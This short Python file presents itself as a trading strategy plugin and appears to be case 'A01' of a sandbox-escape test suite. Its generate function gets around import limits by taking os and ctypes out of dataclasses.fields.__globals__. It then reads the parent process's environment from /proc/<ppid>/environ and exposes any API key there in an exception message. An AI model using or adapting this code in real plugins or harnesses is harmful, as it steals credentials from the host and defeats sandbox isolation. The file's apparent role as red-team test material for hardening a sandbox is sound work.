# ruff: noqa
"""A01: read the API key from /proc/<ppid>/environ"""

import dataclasses

import numpy as np
import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def _os():
    return dataclasses.fields.__globals__["sys"].modules["os"]


def _read(path):
    os = _os()
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, 65536).decode("utf-8", "replace")
    finally:
        os.close(fd)


def _libc():
    ctypes = dataclasses.fields.__globals__["sys"].modules["ctypes"]
    return ctypes, ctypes.CDLL(None, use_errno=True)


def generate(bars, params):
    os = _os()
    env = _read(f"/proc/{os.getppid()}/environ")
    raise RuntimeError(" ".join(v for v in env.split("\0") if "KEY" in v) or env[:300])
